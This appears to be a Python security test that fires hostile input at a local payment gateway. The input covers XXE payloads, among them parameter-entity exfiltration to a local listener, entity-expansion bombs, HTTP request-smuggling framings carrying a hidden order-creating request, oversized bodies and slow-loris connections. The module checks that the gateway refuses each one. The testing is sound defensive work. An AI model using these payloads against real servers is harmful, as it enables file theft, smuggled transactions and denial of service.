# SPDX-License-Identifier: Apache-2.0
"""T5 hostile input against the production build (`swift build -c release`) over real sockets:
the XML corpus of the reliability page at the notify URL (XXE reading a file, over HTTP and through
parameter entities, billion laughs, quadratic blowup, 10,000-deep nesting, a 20 MB text node,
invalid UTF-8, NUL bytes, duplicate fields, unterminated CDATA, processing instructions, …),
hostile JSON at the create route (with and without a token), 100 MB bodies with and without
Content-Length, request smuggling framings (Content-Length with Transfer-Encoding, two
Content-Lengths, a Transfer-Encoding other than chunked, 500 query parameters, …) each followed on the
same connection by a request that would create an order, and slow-loris: a thousand connections
sending a byte a second (half still in the request head, half in a body they promised), while normal
creates keep coming.

Passes when: every hostile request is refused with a clear error (a FAIL reply naming the problem,
or 400/401/413), never a 5xx, a success or a dropped connection; no response carries the canary
file's content and the listener the external entities point at sees no connection; the
slow-loris connections are all cut (the request timeout, 30 s) and none is answered as a request;
every smuggling framing is answered 400, 501 or 414 within a few seconds and its connection closed
with that one answer (the request behind it never runs);
the gateway's RSS grows less than 64 MB; no table gains or loses a row except for the normal
creates' own orders; normal creates during the attack answer within 3 × their p99 measured just
before it; and the gateway answers a normal create and query right after.
"""
import json
import multiprocessing
import os
import socket
import threading
import time
import uuid

import probes
from rig import ACK, CLIENT_TOKEN, PRODUCTION_BINARY, create_body, parallel

SCALES = {"full": dict(copies=50, loris=1000, baseline_s=30), "reduced": dict(copies=5, loris=100, baseline_s=10)}
CREATE_RATE = 10            # normal creates per second, before and during the attack
NOTIFY_LIMIT = 64 * 1024
FAIL = "<return_code><![CDATA[FAIL]]></return_code>"


def xml_corpus(canary_path, dtd_url):
    """(name, bytes) of the reliability page's XML cases that fit the notify route's 64 KiB."""
    canary = "file://" + canary_path

    def field(value):
        return b"<xml><return_code>SUCCESS</return_code><a>" + value + b"</a></xml>"
    laughs = '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)) + "]><xml><a>&lol9;</a></xml>"
    quadratic = '<!DOCTYPE xml [<!ENTITY a "' + "a" * 10_000 + '">]><xml><b>' + "&a;" * 5_000 + "</b></xml>"
    return [
        ("XXE reading a local file", f'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "{canary}">]>'
                                     "<xml><return_code>SUCCESS</return_code><attach>&xxe;</attach></xml>"),
        ("XXE in an attribute", f'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "{canary}">]><xml><a b="&xxe;">1</a></xml>'),
        ("XXE over HTTP", f'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "{dtd_url}">]><xml><a>&xxe;</a></xml>'),
        ("external DTD", f'<!DOCTYPE xml SYSTEM "{dtd_url}"><xml><a>1</a></xml>'),
        ("external parameter entity", f'<!DOCTYPE xml [<!ENTITY % pe SYSTEM "{dtd_url}"> %pe;]><xml><a>1</a></xml>'),
        ("parameter entity exfiltration",
         f'<!DOCTYPE xml [<!ENTITY % file SYSTEM "{canary}"><!ENTITY % eval "<!ENTITY &#x25; send SYSTEM '
         f"'{dtd_url}?x=%file;'>\"> %eval; %send;]><xml><a>1</a></xml>"),
        ("undeclared entity", "<xml><attach>&xxe;</attach></xml>"),
        ("billion laughs", laughs),
        ("quadratic blowup", quadratic),
        ("10,000-deep nesting", "<xml>" * 10_000),
        ("2,000-deep nesting", "<xml>" + "<a>" * 2_000 + "</a>" * 2_000 + "</xml>"),
        ("overlong UTF-8", field(b"\xc0\xaf")),
        ("a UTF-8 surrogate", field(b"\xed\xa0\x80")),
        ("truncated UTF-8", b"<xml><a>1</a></xml>\xe4\xbd"),
        ("bytes 0xFE 0xFF", field(b"\xfe\xff")),
        ("UTF-16", b"\xff\xfe" + "".join(c + "\0" for c in "<xml/>").encode()),
        ("GBK bytes", b'<?xml version="1.0" encoding="GBK"?><xml><body>\xc4\xe3\xba\xc3</body></xml>'),
        ("NUL in a value", field(b"1\x002")),
        ("NUL after the root", b"<xml><a>1</a></xml>\x00"),
        ("character reference to NUL", "<xml><a>&#0;</a></xml>"),
        ("duplicate fields", "<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>"),
        ("a duplicate after 3,000 fields", "<xml>" + "".join(f"<f{i}>1</f{i}>" for i in range(3000)) + "<f0>2</f0></xml>"),
        ("unterminated CDATA", "<xml><a><![CDATA[SUCCESS</a></xml>"),
        ("unterminated CDATA at the end", "<xml><a><![CDATA[SUCCESS"),
        ("processing instruction", "<xml><?php system('id'); ?><a>1</a></xml>"),
        ("XInclude", f'<xml xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{canary}" parse="text"/></xml>'),
        ("a 60 KB text node", "<xml><a>" + "x" * 60_000 + "</a></xml>"),
        ("empty body", ""),
        ("not XML", "return_code=SUCCESS&sign=x"),
    ]


def json_corpus():
    """(name, bytes) of hostile create bodies within the create route's 16 KiB."""
    valid = json.dumps(create_body("t5-hostile-json", 990))
    return [
        ("5,000-deep JSON nesting", "[" * 5_000 + "]" * 5_000),
        ("deep object nesting", '{"a":' * 2_000 + "1" + "}" * 2_000),
        ("invalid UTF-8 in a string", valid.replace('"battery"', '"\xff\xfe"').encode("latin-1")),
        ("a raw NUL in a string", valid.replace('"battery"', '"a\x00b"')),
        ("an escaped NUL", valid.replace('"battery"', '"a\\u0000b"')),
        ("duplicate keys", valid[:-1] + ', "amount": 1}'),
        ("a lone surrogate escape", valid.replace('"battery"', '"\\ud800"')),
        ("an amount of 1e400", valid.replace('"amount": 990', '"amount": 1e400')),
        ("unterminated", valid[:-3]),
        ("not JSON", "amount=990"),
        ("an array", "[1,2,3]"),
    ]


# The framings libmicrohttpd 0.9.75 refuses itself, before the gateway's code sees the request (a
# Content-Length that is not one number): it answers and closes, but writes its answer's head twice.
LIBRARY_ANSWERED = {"a Content-Length list", "Content-Length +5"}


def framing_corpus(smuggled):
    """(name, bytes, statuses allowed) of requests whose body length two HTTP parsers could read two
    ways (RFC 9112 §6.3), each followed by `smuggled`: a complete request that, run, would write."""
    body = b"0\r\n\r\n"

    def post(headers, data=body, version="HTTP/1.1", target="/v1/orders"):
        head = f"POST {target} {version}\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {CLIENT_TOKEN}\r\n"
        return head.encode() + "".join(f"{h}\r\n" for h in headers).encode() + b"\r\n" + data + smuggled
    query = "&".join(f"p{i}=1" for i in range(500))
    return [
        ("Content-Length with Transfer-Encoding", post([f"Content-Length: {len(body) + len(smuggled)}",
                                                        "Transfer-Encoding: chunked"]), {400}),
        ("Transfer-Encoding with Content-Length", post(["Transfer-Encoding: chunked", "Content-Length: 3"]), {400}),
        ("two different Content-Lengths", post(["Content-Length: 5", f"Content-Length: {len(body) + len(smuggled)}"]),
         {400}),
        ("two equal Content-Lengths", post(["Content-Length: 5", "Content-Length: 5"]), {400}),
        ("a Content-Length list", post(["Content-Length: 5, 5"]), {400}),
        ("Content-Length +5", post(["Content-Length: +5"]), {400}),
        ("Transfer-Encoding: chunked, identity", post(["Transfer-Encoding: chunked, identity"]), {400}),
        ("Transfer-Encoding: identity", post(["Transfer-Encoding: identity"]), {400}),
        ("Transfer-Encoding: xchunked", post(["Transfer-Encoding: xchunked"]), {400}),
        ("Transfer-Encoding: gzip, chunked", post(["Transfer-Encoding: gzip, chunked"]), {501}),
        ("Transfer-Encoding twice", post(["Transfer-Encoding: chunked", "Transfer-Encoding: identity"]), {400}),
        ("Transfer-Encoding in HTTP/1.0", post(["Transfer-Encoding: chunked"], version="HTTP/1.0"), {400}),
        ("a space before the colon", post(["Transfer-Encoding : chunked"], data=b"5\r\nhello\r\n0\r\n\r\n"), {400}),
        ("a tab before the colon", post(["Transfer-Encoding\t: chunked"], data=b"5\r\nhello\r\n0\r\n\r\n"), {400}),
        ("500 query parameters", f"GET /v1/orders/x?{query} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() + smuggled,
         {414}),
        ("a 9 KiB request-target", f"GET /v1/orders/{'x' * 9216} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
         + smuggled, {414}),
    ]


def framing_exchange(port, data, timeout=30):
    """Sends `data` and reads until the server closes the connection: (status, responses, seconds
    until closed, or None if it was still open after `timeout`)."""
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        try:
            s.sendall(data)
        except OSError:
            pass
        received, closed = b"", None
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    closed = time.monotonic() - started
                    break
                received += chunk
        except ConnectionResetError:
            closed = time.monotonic() - started
        except OSError:
            pass
    responses = sum(1 for line in received.split(b"\r\n") if line.startswith(b"HTTP/1."))
    return status_of(received), responses, closed


class Canary:
    def __init__(self, directory):
        self.value = "canary-" + uuid.uuid4().hex
        self.path = os.path.join(directory, "canary.txt")
        with open(self.path, "w") as f:
            f.write(self.value)


class Listener:
    """A TCP listener that never accepts: any fetch of an external entity leaves a connection."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.setblocking(False)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/x.dtd"

    def connections(self):
        count = 0
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return count
            conn.close()
            count += 1


def raw(port, data, read_timeout=30):
    """Sends `data` on a new connection and reads until the server closes or answers fully."""
    with socket.create_connection(("127.0.0.1", port), timeout=read_timeout) as s:
        try:
            s.sendall(data)
        except OSError:
            pass
        chunks = []
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                chunks.append(chunk)
                if response_complete(b"".join(chunks)):
                    break
        except OSError:
            pass
        return b"".join(chunks)


def response_complete(data):
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value.strip())
    return False


def status_of(response):
    try:
        return int(response.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


def huge_body(port, path, headers, total, chunked):
    """Streams `total` bytes of body (chunked, or after a Content-Length) until the server answers
    or closes; returns (status, bytes sent before it stopped taking them)."""
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    head += "Transfer-Encoding: chunked\r\n\r\n" if chunked else f"Content-Length: {total}\r\n\r\n"
    block = b"<xml><a>" + b"x" * (1 << 20)
    sent = body = 0
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(head.encode())
        s.setblocking(False)
        response, pending = b"", b""
        deadline = time.monotonic() + 60
        while (pending or body < total) and time.monotonic() < deadline:
            if not pending:
                piece = block[:min(len(block), total - body)]
                body += len(piece)
                pending = (f"{len(piece):x}\r\n".encode() + piece + b"\r\n") if chunked else piece
                if chunked and body >= total:
                    pending += b"0\r\n\r\n"
            try:
                n = s.send(pending)
                pending = pending[n:]
                sent += n
            except BlockingIOError:
                time.sleep(0.01)
            except OSError:
                break
            try:
                got = s.recv(65536)
                if not got:
                    break
                response += got
                if response_complete(response):
                    break
            except BlockingIOError:
                pass
            except OSError:
                break
        s.setblocking(True)
        s.settimeout(10)
        try:
            while not response_complete(response):
                got = s.recv(65536)
                if not got:
                    break
                response += got
        except OSError:
            pass
    return status_of(response), sent


def slow_loris(port, count, seconds, body_half=True):
    """`count` connections each sending one byte a second: half a request head that never ends,
    half a body shorter than its Content-Length. Returns (cut, answered, still_open, cut_after_s)."""
    head = b"POST /wechat/notify HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 200
    body_head = b"POST /wechat/notify HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n\r\n<xml>" + b"a" * 100
    conns = []
    for i in range(count):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            continue
        s.setblocking(False)
        conns.append({"sock": s, "data": body_head if body_half and i % 2 else head, "at": 0, "cut": None,
                      "answered": False, "opened": time.monotonic()})
    end = time.monotonic() + seconds
    while time.monotonic() < end and any(c["cut"] is None for c in conns):
        tick = time.monotonic()
        for c in conns:
            if c["cut"] is not None:
                continue
            try:
                got = c["sock"].recv(4096)
                if got:
                    c["answered"] = c["answered"] or got.startswith(b"HTTP/1.1 2")
                c["cut"] = time.monotonic() - c["opened"]
                continue
            except BlockingIOError:
                pass
            except OSError:
                c["cut"] = time.monotonic() - c["opened"]
                continue
            try:
                c["sock"].send(c["data"][c["at"] % len(c["data"]):c["at"] % len(c["data"]) + 1])
                c["at"] += 1
            except BlockingIOError:
                pass
            except OSError:
                c["cut"] = time.monotonic() - c["opened"]
        time.sleep(max(0, 1 - (time.monotonic() - tick)))
    for c in conns:
        c["sock"].close()
    cuts = sorted(c["cut"] for c in conns if c["cut"] is not None)
    return (len(cuts), sum(c["answered"] for c in conns), sum(1 for c in conns if c["cut"] is None),
            (round(cuts[0], 1), round(cuts[-1], 1)) if cuts else None, len(conns))


def trickle(base, prefix, seconds, first, out):
    """Normal creates at CREATE_RATE a second for `seconds`, each timed, in a process of its own:
    the attack's threads hold this interpreter's lock, and a create timed in one of them would
    count the driver's waiting for it as the gateway's. Puts (latencies, failures) on `out`."""
    from rig import Client
    client = Client(timeout=60)
    latencies, failures = [], []
    end = time.monotonic() + seconds
    n = first
    while time.monotonic() < end:
        started = time.monotonic()
        status, _ = client.json(base, "POST", "/v1/orders", create_body(f"{prefix}{n:05d}", 990), token=CLIENT_TOKEN)
        latencies.append(time.monotonic() - started)
        if status != 201:
            failures.append((f"{prefix}{n:05d}", status))
        n += 1
        time.sleep(max(0, 1 / CREATE_RATE - latencies[-1]))
    out.put((latencies, failures))


class Trickle:
    """Starts `trickle` in a child process and collects what it measured."""

    def __init__(self, gateway, prefix):
        self.gateway, self.prefix, self.count = gateway, prefix, 0
        self.context = multiprocessing.get_context("fork")
        self.failures = []

    def start(self, seconds):
        self.out = self.context.Queue()
        self.process = self.context.Process(target=trickle, daemon=True,
                                            args=(self.gateway.base, self.prefix, seconds, self.count, self.out))
        self.count += int(seconds * CREATE_RATE) + 10
        self.process.start()

    def result(self, timeout=120):
        latencies, failures = self.out.get(timeout=timeout)
        self.process.join(timeout=10)
        self.failures += failures
        return latencies

    def run_for(self, seconds):
        self.start(seconds)
        return self.result(timeout=seconds + 120)


def table_counts(rig, normal_prefix):
    counts = {}
    for table in rig.tables():
        where = f" WHERE out_trade_no NOT LIKE '{normal_prefix}%'" if "out_trade_no" in rig.columns(table) else ""
        counts[table] = rig.sql(f'SELECT COUNT(*) FROM "{table}"{where}')[0][0]
    return counts


def run(rig, scale, seed, result):
    sizes = SCALES[scale]
    gateway = rig.gateway(binary=PRODUCTION_BINARY)
    port = gateway.port
    canary, listener = Canary(rig.dir), Listener()
    normal = f"t5-{seed}-normal-"
    creates = Trickle(gateway, normal)
    creates.run_for(3)                  # warm: the first creates open the database's pages
    baseline = creates.run_for(sizes["baseline_s"])
    before_rows = table_counts(rig, normal)
    before = probes.process(gateway.proc.pid)

    # The normal creates run through the whole attack (the slow-loris phase is the longest: 45 s).
    creates.start(48)
    loris = {}
    loris_thread = threading.Thread(target=lambda: loris.update(
        result=slow_loris(port, sizes["loris"], 45)), daemon=True)
    loris_thread.start()

    notify_headers = {"Content-Type": "text/xml"}
    refused, problems, bodies = 0, [], []
    jobs = [("notify", name, body) for name, body in xml_corpus(canary.path, listener.url) for _ in range(sizes["copies"])]
    jobs += [("create", name, body) for name, body in json_corpus() for _ in range(sizes["copies"])]
    jobs += [("create without a token", name, body) for name, body in json_corpus()]

    def send(job):
        kind, name, body = job
        data = body.encode() if isinstance(body, str) else body
        if kind == "notify":
            head = "POST /wechat/notify HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/xml\r\n"
        else:
            token = f"Authorization: Bearer {CLIENT_TOKEN}\r\n" if kind == "create" else ""
            head = f"POST /v1/orders HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n{token}"
        response = raw(port, f"{head}Content-Length: {len(data)}\r\nConnection: close\r\n\r\n".encode() + data)
        return kind, name, status_of(response), response
    for kind, name, status, response in parallel(jobs, send, workers=8):
        text = response.decode(errors="replace")
        bodies.append(text)
        if kind == "notify":
            ok = (status == 200 and FAIL in text and ACK not in text) or status == 413
        elif kind == "create":
            ok = status in (400, 413)
        else:
            ok = status == 401
        refused += ok
        if not ok:
            problems.append((kind, name, status, text[:120]))

    # The big ones: a 20 MB text node and 100 MB bodies, with and without Content-Length.
    big = []
    for path, headers in (("/wechat/notify", notify_headers),
                          ("/v1/orders", {"Authorization": f"Bearer {CLIENT_TOKEN}", "Content-Type": "application/json"})):
        big.append((path, "20 MB with Content-Length", huge_body(port, path, headers, 20_000_000, chunked=False)))
        big.append((path, "100 MB with Content-Length", huge_body(port, path, headers, 100_000_000, chunked=False)))
        big.append((path, "100 MB chunked", huge_body(port, path, headers, 100_000_000, chunked=True)))
    for path, name, (status, sent) in big:
        if status != 413 or sent > 8 << 20:
            problems.append(("big", f"{path} {name}", status, f"{sent} bytes taken"))
        else:
            refused += 1

    # Smuggling framings: each on a connection of its own, followed by a create that must never run.
    smuggled_prefix = f"t5-{seed}-smuggled-"
    framings = []
    for copy in range(sizes["copies"]):
        create = json.dumps(create_body(f"{smuggled_prefix}{copy:04d}", 990))
        smuggled = (f"POST /v1/orders HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {CLIENT_TOKEN}\r\n"
                    f"Content-Type: application/json\r\nContent-Length: {len(create)}\r\n\r\n{create}").encode()
        framings += framing_corpus(smuggled)
    framing_seconds, doubled_heads = [], 0
    for (name, _, allowed), (status, responses, closed) in zip(
            framings, parallel(framings, lambda case: framing_exchange(port, case[1]), workers=8)):
        framing_seconds.append(closed if closed is not None else 99)
        heads = (1, 2) if name in LIBRARY_ANSWERED else (1,)
        doubled_heads += name in LIBRARY_ANSWERED and responses == 2
        ok = status in allowed and responses in heads and closed is not None and closed < 10
        refused += ok
        if not ok:
            problems.append(("framing", name, status, f"{responses} responses, closed after {closed} s"))
    smuggled_rows = int(rig.sql(f"SELECT COUNT(*) FROM orders WHERE out_trade_no LIKE '{smuggled_prefix}%'")[0][0])

    loris_thread.join(timeout=120)
    during = creates.result()
    peak = probes.process(gateway.proc.pid)
    cut, answered, still_open, cut_after, opened = loris.get("result", (0, 0, -1, None, 0))
    after_rows = table_counts(rig, normal)
    outbound = listener.connections()
    leaked = [b for b in bodies if canary.value in b]

    # Right after: a normal create and a query.
    status_create, _ = rig.client.json(gateway.base, "POST", "/v1/orders", create_body(normal + "after", 990),
                                       token=CLIENT_TOKEN)
    status_get, order = rig.client.json(gateway.base, "GET", f"/v1/orders/{normal}after", token=CLIENT_TOKEN)

    p99_before, p99_during = probes.percentile(baseline, 0.99), probes.percentile(during, 0.99)
    growth_mib = (peak["hwm_kib"] - before["rss_kib"]) / 1024
    result.expect(not problems, f"{len(problems)} hostile requests not refused as expected, e.g. {problems[:3]}")
    result.expect(smuggled_rows == 0, f"{smuggled_rows} smuggled requests created an order")
    result.expect(not leaked, f"{len(leaked)} responses carried the canary file's content")
    result.expect(outbound == 0, f"{outbound} connections reached the external-entity listener")
    result.expect(opened == sizes["loris"], f"only {opened} slow-loris connections opened")
    result.expect(cut == opened and still_open == 0, f"slow-loris: {cut} of {opened} cut, {still_open} still open")
    result.expect(answered == 0, f"{answered} slow-loris connections were answered as requests")
    result.expect(before_rows == after_rows, f"hostile input changed rows: {before_rows} -> {after_rows}")
    result.expect(growth_mib < 64, f"RSS grew {growth_mib:.1f} MB")
    result.expect(not creates.failures, f"{len(creates.failures)} normal creates failed, e.g. {creates.failures[:3]}")
    result.expect(p99_during <= 3 * p99_before,
                  f"normal creates' p99 {p99_during * 1000:.1f} ms during the attack, over 3 × {p99_before * 1000:.1f} ms")
    result.expect(status_create == 201 and status_get == 200 and (order or {}).get("state") == "NOTPAY",
                  f"after the attack: create {status_create}, query {status_get}")
    result.figures.update(
        hostile_requests=len(jobs) + len(big) + len(framings), refused=refused,
        xml_cases=len(xml_corpus(canary.path, listener.url)), json_cases=len(json_corpus()),
        framing_cases=len(framing_corpus(b"")), framing_requests=len(framings), smuggled_orders=smuggled_rows,
        library_doubled_heads=doubled_heads,
        framing_closed_after_s=f"{min(framing_seconds):.3f}-{max(framing_seconds):.3f}" if framing_seconds else "-",
        copies=sizes["copies"],
        big_bodies=";".join(f"{p} {n}: {s} after {b // 1024} KiB" for p, n, (s, b) in big),
        loris=f"{opened} opened, {cut} cut after {cut_after[0] if cut_after else '-'}-{cut_after[1] if cut_after else '-'} s",
        normal_creates=len(baseline) + len(during), create_p99_before_ms=round(p99_before * 1000, 1),
        create_p99_during_ms=round(p99_during * 1000, 1), rss_before_mib=round(before["rss_kib"] / 1024, 1),
        rss_peak_mib=round(peak["hwm_kib"] / 1024, 1), rss_growth_mib=round(growth_mib, 1),
        outbound_connections=outbound, rows_changed=sum(1 for t in before_rows if before_rows[t] != after_rows.get(t)),
        loadavg=probes.loadavg().replace(" ", "/"))


TESTS = {"T5": run}
